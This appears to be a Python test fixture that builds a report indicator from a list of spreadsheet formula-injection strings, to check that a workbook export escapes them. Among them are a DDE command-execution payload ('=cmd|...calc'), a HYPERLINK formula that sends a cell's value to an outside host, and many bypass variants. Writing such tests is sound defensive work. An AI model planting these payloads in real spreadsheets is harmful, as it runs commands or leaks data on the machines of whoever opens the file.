"""Texts that mean harm to whoever opens a file of them."""

from __future__ import annotations

import re

from strategy_monitor.exports.publication import Publication
from strategy_monitor.report.document import Indicator, Observation, Period, Series

HOSTILE = [
    "=1+1",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"voir\")",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "'=1+1",
    "\"=1+1",
    "vrai;=1+1",
    "vrai,=1+1",
    "vrai\";=1+1;\"",
    "vrai\n=1+1",
    "vrai\t=1+1",
    "=WEBSERVICE(\"http://example.org\")",
    "{=1+1}",
    "_x003D_1+1",
    "2-3",
    "-95 % des écoles",
]  # fmt: skip
"""What they would come to, where they are worked out: 2, mostly; or a request to another site."""


def hostile(publication: Publication) -> Indicator:
    """An indicator that prints them all."""
    first = publication.report.indicators[0]
    observations = tuple(
        Observation(
            period=Period(kind="undated", label=f"essai {rank}"),
            state=text,
            printed=text,
            place="text",
            section="1.1",
            source=text,
            planned_source="",
        )
        for rank, text in enumerate(HOSTILE)
    )
    series = Series(
        key="essai", label="=1+1", unit="=1+1", quantity="state", role="headline", observations=observations
    )
    return first.model_copy(update={"series": (series,), "title": "=1+1", "context": "vrai;=1+1"})


def told(value: str) -> str:
    """The text that a workbook holds, of what openpyxl gives: it leaves escaped control characters as they are."""
    return re.sub("_x(00[01][0-9A-F])_", lambda part: chr(int(part[1], 16)), value)
